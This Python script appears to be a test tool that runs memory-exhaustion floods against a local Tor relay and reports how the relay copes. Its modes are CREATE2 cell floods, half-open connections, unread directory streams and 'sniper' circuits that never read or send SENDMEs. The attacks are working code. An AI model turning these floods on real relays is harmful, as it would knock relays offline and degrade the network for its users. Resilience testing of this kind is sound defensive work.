#!/usr/bin/env python3
# mem_flood.py — memory floods against a relay, from 127.0.0.2 (used by mem-flood-test.sh), over
# torcirc.py's raw Tor client. Each mode prints one "mode: ..." summary line; exit 0.
#   create2 LINKS MB  LINKS links each send MB MiB of CREATE2 cells (an unknown handshake type,
#                     each answered with DESTROY) and never read the answers; held for HOLD s
#   halfopen N        N TCP connections that never start TLS, held for HOLD s
#   begindir C S      C one-hop circuits (over links of 50) each open S BEGIN_DIR streams asking
#                     for the consensus (both flavours, plain and .z) and read nothing for HOLD s;
#                     then read what came: streams ended (by reason) or on a destroyed circuit
#   noread N          N two-hop circuits (a tor relay of NET_JSON, then the relay at PORT as
#                     exit) each BEGIN 127.0.0.1:HTTP_PORT and GET /big.bin, then never read nor
#                     send a SENDME for HOLD s; then read what came (DATA cells per circuit,
#                     ENDs, DESTROYs) and close. N = 1: a client that never reads; more: "sniper"
#   nudge             one such circuit, built and closed: traffic on the tor relay's channel to
#                     the relay at PORT, which makes tor flush the DESTROYs it queued there
# Usage: mem_flood.py PORT MODE ARGS...   (HOLD: environment, default 15)
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.request

import torcirc
from torcirc import Circuit, Link, fixed

PORT = int(sys.argv[1])
HOLD = float(os.environ.get("HOLD", "15"))
SRC = "127.0.0.2"


def open_link():
    return Link(PORT, SRC).sock


def create2(links, mb):
    """Push CREATE2 cells on every link, never reading, until MB MiB each or the relay stops
    reading (sends time out); returns the bytes the relay took."""
    socks = []
    for _ in range(links):
        try:
            socks.append(open_link())
        except (OSError, EOFError):
            pass
    chunk = b"".join(fixed(0x80000000 | (i + 1), 10, struct.pack(">HH", 0xFFFF, 84) + b"\x02" * 84)
                     for i in range(128))
    sent = [0] * len(socks)
    want = mb << 20
    end = time.time() + 60
    for s in socks:
        s.settimeout(0.2)
    while time.time() < end and any(n < want for n in sent):
        progress = False
        for i, s in enumerate(socks):
            if sent[i] >= want or s is None:
                continue
            try:
                sent[i] += s.send(chunk)
                progress = True
            except (socket.timeout, ssl.SSLWantWriteError):
                pass
            except OSError:
                socks[i] = None
        if not progress:
            break  # every link is stuck: the relay stopped reading (or closed them)
    time.sleep(HOLD)
    alive = sum(1 for s in socks if s is not None)
    for s in socks:
        if s is not None:
            s.close()
    print(f"create2: {len(socks)} links, {sum(sent) >> 20} MiB sent, {alive} still open "
          f"after {HOLD:.0f} s")


def halfopen(n):
    socks = []
    for _ in range(n):
        try:
            socks.append(torcirc.tcp(PORT, SRC))
        except OSError:
            break
    time.sleep(HOLD)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            closed += s.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    print(f"halfopen: {len(socks)} connections, {closed} closed by the relay within {HOLD:.0f} s")


def circuits(n, make):
    """n circuits, 50 per link, made one after the other by make(link, circ_id)."""
    links, circs = [], []
    for i in range(n):
        if i % 50 == 0:
            links.append(None)
        try:
            if links[-1] is None:
                links[-1] = make(None, 0)
            c = make(links[-1], 0x80000000 | (i + 1))
        except (OSError, EOFError):
            c = None
        if c is not None:
            circs.append(c)
    return [lk for lk in links if lk is not None], circs


def drain(links, circs, seconds):
    """Read everything that comes within `seconds` of silence per link: per circuit, DATA
    bytes, END reasons of its streams, DESTROY."""
    by_id = {(id(c.link), c.id): c for c in circs}
    for c in circs:
        c.data, c.ends, c.destroyed = 0, {}, None
    for lk in links:
        for cid, cmd, p in lk.cells(seconds):
            c = by_id.get((id(lk), cid))
            if c is None:
                continue
            if cmd == torcirc.DESTROY:
                c.destroyed = p[0]
            elif cmd == torcirc.RELAY and c.destroyed is None:
                m = c.decrypt(p)
                if m and m[1] == torcirc.DATA:
                    c.data += len(m[3])
                elif m and m[1] == torcirc.END:
                    c.ends[m[2]] = m[3][0] if m[3] else 0


def summary(circs, per_circ):
    reasons, ended, on_destroyed, destroyed = {}, 0, 0, 0
    for c in circs:
        if c.destroyed is not None:
            destroyed += 1
            on_destroyed += per_circ - len(c.ends)
        for r in c.ends.values():
            reasons[r] = reasons.get(r, 0) + 1
        ended += len(c.ends)
    return (f"{len(circs)} circuits, {per_circ * len(circs)} streams: ended {ended} (reasons "
            f"{sorted(reasons.items())}), {on_destroyed} more on {destroyed} destroyed circuits, "
            f"unaccounted {per_circ * len(circs) - ended - on_destroyed}")


DIR_PATHS = ["/tor/status-vote/current/consensus", "/tor/status-vote/current/consensus.z",
             "/tor/status-vote/current/consensus-microdesc",
             "/tor/status-vote/current/consensus-microdesc.z"]


def begindir(n, per):
    def make(link, cid):
        return Link(PORT, SRC) if link is None else Circuit.create_fast(link, cid)
    links, circs = circuits(n, make)
    for c in circs:
        out = []
        for sid in range(1, per + 1):
            out.append(c.cell_for(torcirc.BEGIN_DIR, sid))
            req = f"GET {DIR_PATHS[sid % 4]} HTTP/1.0\r\n\r\n".encode()
            out.append(c.cell_for(torcirc.DATA, sid, req))
        c.link.sock.sendall(b"".join(out))
    time.sleep(HOLD)
    drain(links, circs, 10)
    print(f"begindir: {summary(circs, per)}, {sum(c.data for c in circs) >> 10} KiB read")
    for lk in links:
        lk.sock.close()


def via_first_relay():
    """(first tor relay of NET_JSON, make) where make(link, cid) makes a two-hop circuit: the
    first relay by CREATE_FAST, then the relay at PORT by EXTEND2 ntor (link None: a new link
    to the first relay from SRC)."""
    net = json.load(open(os.environ["NET_JSON"]))
    first = net["relays"][0]
    om = net["onionmesh_relays"][0]
    auth = net["authorities"][0]
    fp = open(os.path.join(om["data_dir"], "fingerprint")).read().split()[1]
    url = f"http://127.0.0.1:{auth['dir_port']}/tor/server/fp/{fp}"
    key = torcirc.ntor_key_of(urllib.request.urlopen(url, timeout=10).read().decode())
    rsa_id = bytes.fromhex(fp)

    def make(link, cid):
        if link is None:
            return Link(first["or_port"], SRC)
        c = Circuit.create_fast(link, cid)
        return c if c and c.extend_ntor(rsa_id, key, PORT) else None
    return first, make


def nudge():
    """One two-hop circuit through the first relay to the relay at PORT, then closed: a cell on
    the first relay's channel to us. tor 0.4.9 queues the DESTROYs of circuits whose client left
    in the channel's circuitmux (circuitmux_append_destroy_cell) and sends only the first at once;
    the rest wait until the scheduler runs for that channel, i.e. until another cell goes out."""
    first, make = via_first_relay()
    link = make(None, 0)
    c = make(link, 0x80000001)
    print(f"nudge: a circuit via {first['nickname']} to the relay at {PORT}: "
          f"{'built' if c else 'FAILED'}")
    link.sock.close()


def noread(n):
    http_port = int(os.environ["HTTP_PORT"])
    first, make = via_first_relay()
    links, circs = circuits(n, make)
    for c in circs:
        c.send(torcirc.BEGIN, 1, f"127.0.0.1:{http_port}\0".encode())
    connected = 0
    by_id = {(id(c.link), c.id): c for c in circs}
    for lk in links:
        want = sum(1 for c in circs if c.link is lk)
        got = [0]
        for cid, cmd, p in lk.cells(15, lambda: got[0] >= want):
            c = by_id.get((id(lk), cid))
            m = c.decrypt(p) if c and cmd == torcirc.RELAY else None
            if m and m[1] == torcirc.CONNECTED:
                got[0] += 1
                connected += 1
                c.send(torcirc.DATA, 1, b"GET /big.bin HTTP/1.0\r\n\r\n")
            elif c:
                got[0] += 1  # an END or DESTROY instead
    time.sleep(HOLD / 2)  # nothing read, no SENDME sent
    ss = subprocess.run(["ss", "-Htn", "state", "established", f"( sport = :{http_port} )"],
                        capture_output=True, text=True).stdout
    time.sleep(HOLD / 2)
    drain(links, circs, 5)
    print(f"noread: {len(circs)} circuits via {first['nickname']} to the relay at {PORT} as exit: "
          f"connected {connected}, server connections open {len(ss.splitlines())}, DATA read per "
          f"circuit at most {max([c.data for c in circs] or [0]) >> 10} KiB (total "
          f"{sum(c.data for c in circs) >> 10} KiB); {summary(circs, 1)}")
    sys.stdout.flush()
    for lk in links:
        lk.sock.close()


mode = sys.argv[2]
if mode == "create2":
    create2(int(sys.argv[3]), int(sys.argv[4]))
elif mode == "halfopen":
    halfopen(int(sys.argv[3]))
elif mode == "begindir":
    begindir(int(sys.argv[3]), int(sys.argv[4]))
elif mode == "noread":
    noread(int(sys.argv[3]))
elif mode == "nudge":
    nudge()
else:
    sys.exit("unknown mode " + mode)
